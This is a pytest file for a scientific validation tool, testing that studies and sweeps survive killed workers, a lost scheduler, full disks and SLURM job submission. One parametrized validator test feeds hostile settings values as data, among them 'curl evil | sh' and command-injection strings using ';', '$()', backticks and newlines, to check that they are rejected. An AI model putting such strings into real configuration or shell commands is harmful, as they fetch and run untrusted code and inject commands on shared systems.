"""Studies and sweeps on a scheduler: workers are killed, the scheduler is cut, disks are full, and nothing is lost."""

import contextlib
import importlib
import importlib.util
import json
import os
import signal
import subprocess
import sys
from concurrent.futures import Executor, Future
from pathlib import Path

import numpy as np
import pytest
from typer.testing import CliRunner

from sims.sweep import Unfinished, sweep
from validation import results, runner
from validation.__main__ import app
from validation.cluster import slurm_settings

HERE = Path(__file__).parent
# Worker processes are given the path, and import the jobs from there.
sys.path.append(str(HERE.parent / "sims"))
jobs = importlib.import_module("sweep_jobs")

needs_distributed = pytest.mark.skipif(
    any(importlib.util.find_spec(name) is None for name in ("distributed", "h5netcdf", "h5py")),
    reason="a scheduler needs distributed, a store h5netcdf and h5py",
)
STUDY = '''"""The {name} study."""
import numpy as np
from validation import style
from validation.study import Claim, Rival, Study

def draw(figure, problem, prediction, observation):
    axes = figure.subplots()
    style.theory(axes, prediction["x"], prediction["y"], label="theory")
    style.networks(axes, prediction["x"], observation["y"], label="networks")

def simulate(problem):
    {body}
    return {{"y": 2 * np.arange(5.0) + 0.01}}

STUDY = Study(
    title="A line", question="Is it straight?", source="none", sizes={{"smoke": {{}}, "paper": {{}}}},
    predict=lambda problem: {{"x": np.arange(5.0), "y": 2 * np.arange(5.0)}},
    simulate=simulate,
    claims=(Claim("it is straight", lambda p, o: np.abs(p["y"] - o["y"]).max() / 0.02, 1.0, "given"),),
    rivals=(Rival("it is flat", lambda problem, p: p | {{"y": 0 * p["x"]}}),),
    draw=draw,
)
'''
KILLED_ONCE = """
    import os
    from pathlib import Path
    sign = Path(__file__).with_name("killed")
    if not sign.exists():
        sign.touch()
        os._exit(9)
"""
LOCAL = """
import sys
sys.path.append(sys.argv[1])
import distributed
if __name__ == "__main__":
    cluster = distributed.LocalCluster(2, threads_per_worker=1, host="127.0.0.1", dashboard_address=None)
    print(cluster.scheduler_address, flush=True)
    sys.stdin.read()
"""


@pytest.fixture
def family(tmp_path, monkeypatch):
    """A family of studies of our own, found here and by every worker that is started."""
    folder = tmp_path / "studies" / "sample"
    folder.mkdir(parents=True)
    (folder / "__init__.py").touch()
    for name, body in {"good": "", "killed_once": KILLED_ONCE, "broken": "raise RuntimeError('the sky fell')"}.items():
        (folder / f"{name}.py").write_text(STUDY.format(name=name, body=body.strip() or "pass"))
    studies = importlib.import_module("validation.studies")
    monkeypatch.setenv("STAGEWISE_STUDIES", str(folder.parent))
    monkeypatch.setattr(studies, "__path__", [*studies.__path__, str(folder.parent)])
    yield folder
    for module in [name for name in sys.modules if name.startswith("validation.studies.sample")]:
        del sys.modules[module]


@contextlib.contextmanager
def scheduler(folder):
    """A scheduler with two workers in processes of their own: its address, and the number of their group."""
    script = folder / "local_cluster.py"
    script.write_text(LOCAL)
    environment = os.environ | {"PYTHONPATH": str(HERE.parent.parent)}
    process = subprocess.Popen(
        [sys.executable, str(script), str(HERE.parent / "sims")],
        env=environment,
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        text=True,
        start_new_session=True,
    )
    try:
        yield process.stdout.readline().strip(), process.pid
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(process.pid, signal.SIGKILL)
        process.communicate()


def files(out):
    """The contents of the results of every study, without what differs from run to run."""
    found = {}
    for path in sorted((out / "studies").rglob("*.*")):
        if path.suffix in (".svg", ".csv"):
            found[path.relative_to(out).as_posix()] = path.read_bytes()
        elif path.name == "arrays.npz":
            found |= {f"{path.parent.relative_to(out)}/{k}": v.tolist() for k, v in np.load(path).items()}
        elif path.name == "result.json":
            found[path.relative_to(out).as_posix()] = summary = json.loads(path.read_text())
            del summary["seconds"], summary["sha256"]
    return found


@needs_distributed
def test_a_killed_worker_costs_neither_jobs_nor_studies(tmp_path, family):
    import distributed

    signs, store = tmp_path / "signs", tmp_path / "store"
    signs.mkdir()
    axes, fixed = {"x": [0, 1, 2, 3, 4]}, {"signs": str(signs)}
    with (
        scheduler(tmp_path) as (address, _),
        distributed.Client(address, set_as_default=False) as client,
        client.get_executor() as executor,
    ):
        found = sweep(jobs.killed_once, axes, fixed=fixed, executor=executor, store=store)
        assert (signs / "killed").exists()
        before = len(list(signs.iterdir()))
        assert sweep(jobs.killed_once, axes, fixed=fixed, executor=executor, store=store).identical(found)
        assert len(list(signs.iterdir())) == before, "a finished job ran again"

        options = runner.Options("smoke", 0, tmp_path / "elsewhere", resume=False)
        names = ["sample/good", "sample/killed_once", "sample/broken"]
        heard = []
        summaries = runner.run(names, options, 2, heard.append, executor)
    # Undisturbed, in this process, nothing is killed any more.
    assert found.identical(sweep(jobs.killed_once, axes, fixed=fixed, executor="serial"))
    assert (family / "killed").exists()
    assert {name: summary["holds"] for name, summary in summaries.items()} == dict(zip(names, [1, 1, 0], strict=True))
    assert summaries["sample/broken"]["error"] == "RuntimeError: the sky fell"
    assert sorted(event.what for event in heard) == ["failed", "finished", "finished"]
    here = options._replace(out=tmp_path / "here")
    for name in names[:2]:
        runner.run_one(name, here)
    assert files(options.out) == files(here.out)
    assert not list(tmp_path.rglob("*.tmp"))


class Here(Executor):
    """An executor of this process, whose scheduler is gone after `until` jobs."""

    def __init__(self, until=100):
        self.left, self.asked = until, []

    def submit(self, fn, /, *args, **kwargs):
        self.asked.append(args[0])
        self.left -= 1
        future = Future()
        if self.left < 0:
            future.cancel()
            future.set_running_or_notify_cancel()
        else:
            future.set_result(fn(*args, **kwargs))
        return future


def test_a_scheduler_that_is_gone_keeps_what_is_finished_and_resume_goes_on(tmp_path, family):
    (family / "killed").touch()
    names = ["sample/good", "sample/killed_once"]
    options = runner.Options("smoke", 0, tmp_path / "out", resume=False)
    with pytest.raises(ConnectionError, match="the scheduler is gone"):
        runner.run(names, options, 1, lambda event: None, Here(until=1))
    assert results.read(options.out, "sample/good", "smoke")["holds"]
    again = Here()
    summaries = runner.run(names, options._replace(resume=True), 1, lambda event: None, again)
    assert again.asked == ["sample/killed_once"]
    assert all(summary["holds"] for summary in summaries.values())
    # Studies outside the packages are code as well.
    (family / "good.py").write_text((family / "good.py").read_text() + "# changed\n")
    changed = Here()
    runner.run(["sample/good"], options._replace(resume=True), 1, lambda event: None, changed)
    assert changed.asked == ["sample/good"]


def test_what_came_back_before_the_scheduler_was_gone_is_kept_whichever_is_heard_of_first(
    tmp_path, family, monkeypatch
):
    def cut(executor, call, calls):
        yield "sample/killed_once", Here(until=0).submit(call, *calls["sample/killed_once"])
        yield "sample/good", Here().submit(call, *calls["sample/good"])

    monkeypatch.setattr(runner, "completed", cut)
    options = runner.Options("smoke", 0, tmp_path / "out", resume=False)
    with pytest.raises(ConnectionError, match="1 of 2 studies are not finished"):
        runner.run(["sample/good", "sample/killed_once"], options, 1, lambda event: None, Here())
    assert results.read(options.out, "sample/good", "smoke")["holds"]


def test_a_full_disk_fails_one_study_and_leaves_no_half_of_it(tmp_path, family, file_limit):
    options = runner.Options("smoke", 0, tmp_path / "out", resume=False)
    with file_limit(4000):
        summaries = runner.run(["sample/good"], options, 1, lambda event: None, Here())
    assert "File too large" in summaries["sample/good"]["error"]
    assert not [path for path in options.out.rglob("*") if path.is_file()]


def test_workers_with_other_code_are_told_apart(tmp_path, family, monkeypatch):
    versions = iter(["this", "another"])
    monkeypatch.setattr(results, "code_and_versions", lambda: next(versions))
    options = runner.Options("smoke", 0, tmp_path / "out", resume=False)
    summaries = runner.run(["sample/good"], options, 1, lambda event: None, Here())
    assert "other code or versions" in summaries["sample/good"]["error"]


@needs_distributed
@pytest.mark.slow
def test_a_scheduler_that_is_cut_keeps_what_is_finished(tmp_path):
    import distributed

    signs, store = tmp_path / "signs", tmp_path / "store"
    signs.mkdir()
    arguments = dict(axes={"x": [0, 1, 2, 3]}, fixed={"signs": str(signs)}, store=store)

    with (
        scheduler(tmp_path) as (address, group),
        distributed.Client(address, set_as_default=False) as client,
        client.get_executor() as executor,
    ):

        def cut(done, _):
            if done == 2:
                os.killpg(group, signal.SIGKILL)

        # 2 and 3 wait for a sign that only comes later.
        with pytest.raises(Unfinished, match="2 of 4 jobs failed; 2 are kept") as caught:
            sweep(jobs.waiting, **arguments, executor=executor, progress=cut)
    assert "a scheduler that is gone" in str(caught.value)
    (signs / "go").touch()
    found = sweep(jobs.waiting, **arguments, executor="serial")
    np.testing.assert_array_equal(found.waiting, [0, 2, 4, 6])
    computed = [file.name[0] for file in signs.glob("*-*")]
    assert computed.count("0") == computed.count("1") == 1


SBATCH = """#!/bin/sh
if [ "$1" = --test-only ]; then exit 0; fi
cp "$1" "{folder}/submitted.sh"
setsid sh "{folder}/submitted.sh" > "{folder}/job.log" 2>&1 &
echo "Submitted batch job $!"
"""
SCANCEL = """#!/bin/sh
echo "$@" > "{folder}/cancelled"
kill -TERM -- "-$1"
"""
SLURM = """
host = "127.0.0.1"
workers = 1
cores = 2
memory = "2GB"
queue = "gpu"
directives = ["--gres=gpu:1"]
"""


def with_slurm(folder, sbatch=SBATCH):
    """The environment in which `sbatch` starts a job at once on this machine."""
    for name, text in {"sbatch": sbatch, "scancel": SCANCEL}.items():
        (folder / name).write_text(text.format(folder=folder))
        (folder / name).chmod(0o755)
    (folder / "slurm.toml").write_text(SLURM)
    return os.environ | {"PATH": f"{folder}{os.pathsep}{os.environ['PATH']}"}


def run_on_slurm(folder, environment):
    command = [sys.executable, "-m", "validation", "run", "good", "--out", str(folder / "out")]
    command += ["--slurm", str(folder / "slurm.toml")]
    return subprocess.run(command, env=environment, capture_output=True, text=True, timeout=200)


@needs_distributed
@pytest.mark.slow
def test_studies_run_as_slurm_jobs(tmp_path, family):
    pytest.importorskip("dask_jobqueue")
    done = run_on_slurm(tmp_path, with_slurm(tmp_path))
    assert done.returncode == 0, done.stdout + done.stderr
    assert "1 of 1 studies hold" in done.stdout
    script = (tmp_path / "submitted.sh").read_text()
    for line in ("#SBATCH -p gpu", "#SBATCH --gres=gpu:1", "#SBATCH --cpus-per-task=2"):
        assert line in script.splitlines()
    assert "tcp://127.0.0.1:" in script
    assert (tmp_path / "cancelled").exists(), "no job outlives the command"


@needs_distributed
@pytest.mark.slow
def test_what_slurm_refuses_is_one_sentence(tmp_path, family):
    pytest.importorskip("dask_jobqueue")
    done = run_on_slurm(tmp_path, with_slurm(tmp_path, "#!/bin/sh\necho 'invalid partition gpu' >&2\nexit 1\n"))
    assert done.returncode == 2
    assert done.stderr.strip() == "stagewise: --slurm: sbatch refuses the jobs (invalid partition gpu)"


@pytest.mark.parametrize(
    ("line", "sentence"),
    [
        ("prologue = ['curl evil | sh']", "must hold only host, workers, .*, got 'prologue'"),
        ("python = 'sh'", "got 'python'"),
        ("queue = 'gpu; touch owned'", "queue .* must be made of letters"),
        ('queue = "gpu\\ntouch owned"', "queue .* must be made of letters"),
        ("local_directory = '$(touch owned)'", "local_directory .* must be made of letters"),
        ("directives = ['--gres=gpu:1', '--wrap=`touch owned`']", "directives .* must be made of letters"),
        ("directives = [1]", "directives .* must be made of letters"),
        ("directives = '--gres=gpu:1'", "directives .* must be a list of words"),
        ("walltime = 10", "walltime .* must be a word, got 10"),
        ("processes = 0", "processes .* must be at least 1, got 0"),
        ("processes = true", "processes .* must be a whole number, got True"),
        ("processes = 1.5", "processes .* must be a whole number, got 1.5"),
        ("host = '127.0.0.1'", "cannot be read"),
        ("nonsense", "cannot be read"),
    ],
)
def test_settings_of_slurm_are_plain_and_known(tmp_path, line, sentence):
    path = tmp_path / "slurm.toml"
    path.write_text(SLURM.replace('queue = "gpu"\n', "").replace('directives = ["--gres=gpu:1"]\n', "") + line)
    with pytest.raises(ValueError, match=sentence):
        slurm_settings(path)


@pytest.mark.parametrize("missing", ["host", "workers", "cores", "memory"])
def test_settings_that_slurm_needs_are_asked_for(tmp_path, missing):
    path = tmp_path / "slurm.toml"
    path.write_text("\n".join(line for line in SLURM.splitlines() if not line.startswith(missing)))
    with pytest.raises(ValueError, match=f"lacks {missing}$"):
        slurm_settings(path)


@pytest.mark.parametrize(
    ("arguments", "sentence"),
    [
        (("--scheduler", "tcp://nonsense"), "--scheduler must be an address such as tcp://10.0.0.1:8786"),
        (("--scheduler", "a:1", "--slurm", "b.toml"), "--scheduler and --slurm are two ways to the same end"),
        (("--scheduler", "a:1", "--jobs", "2"), "--jobs counts processes of this machine, got 2"),
        (("--slurm", "/nowhere.toml"), "/nowhere.toml cannot be read"),
    ],
)
def test_bad_input_is_one_sentence_and_exit_code_two(tmp_path, arguments, sentence):
    done = CliRunner().invoke(app, ["run", "depth", "--out", str(tmp_path), *arguments])
    assert done.exit_code == 2
    assert sentence in done.stderr


def test_without_the_extra_one_sentence_says_how_to_install_it(tmp_path, monkeypatch):
    monkeypatch.setattr(importlib.util, "find_spec", lambda name: None)
    done = CliRunner().invoke(app, ["run", "depth", "--out", str(tmp_path), "--scheduler", "127.0.0.1:1"])
    assert done.exit_code == 2
    assert '--scheduler and --slurm need distributed: pip install -e ".[cluster]"' in done.stderr
